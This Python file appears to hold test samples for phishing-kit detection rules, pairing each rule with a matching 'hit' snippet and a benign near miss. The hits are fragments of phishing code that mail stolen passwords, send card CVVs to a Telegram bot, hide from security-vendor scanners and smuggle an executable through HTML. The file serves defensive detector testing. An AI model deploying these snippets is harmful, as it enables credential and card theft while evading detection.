from rule_samples.building import Sample, text

_PAGE = (
    "<!doctype html><scr^ipt>var d = at^ob({}); var b = new Bl^ob([d]); var a = document.createElement('a'); "
    "a.href = URL.createObjectURL(b); a.download = 'x'; a.click();</scr^ipt>"
)

SAMPLES = (
    Sample(
        rule="phishing_php_mails_credentials",
        hit=text(
            "<?php $m = $_POST['email'] . $_PO^ST['passwd'] . $_SERVER['REMOTE_^ADDR']; "
            "ma^il($to, 'log', $m); header('Loca^tion: https://example.org'); ?>"
        ),
        near_miss=text(
            "<?php if (check($_POST['email'], $_POST['passwd'])) { header('Location: /home'); } "
            "log_line($_SERVER['REMOTE_ADDR']); $mailer->mail($to); ?>"
        ),
    ),
    Sample(
        rule="phishing_php_sends_to_telegram",
        hit=text("<?php $t = $_PO^ST['card_cvv']; file_get_contents('https://api.tele^gram.org/bot0:x/send^Message?text=' . $t); ?>"),
        near_miss=text("<?php $t = $_POST['order']; file_get_contents('https://api.tele^gram.org/bot0:x/send^Message?text=' . $t); ?>"),
    ),
    Sample(
        rule="phishing_kit_turns_examiners_away",
        hit=text(
            "<?php $h = gethost^byaddr($_SERVER['REMOTE_ADDR']); foreach (['phish^tank', 'net^craft', 'kasper^sky'] as $w) "
            "{ if (strpos($h, $w)) { die('404 Not Found'); } } ?>"
        ),
        near_miss=text(
            "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); foreach (['badbot', 'netcraft'] as $w) "
            "{ if (strpos($h, $w)) { die('403 Forbidden'); } } ?>"
        ),
    ),
    Sample(
        rule="phishing_html_carries_program",
        hit=text(_PAGE.format("'TV^qQ" + "A" * 220 + "'")),
        near_miss=text(_PAGE.format("'iVBORw0KGgo" + "A" * 220 + "'")),
    ),
)
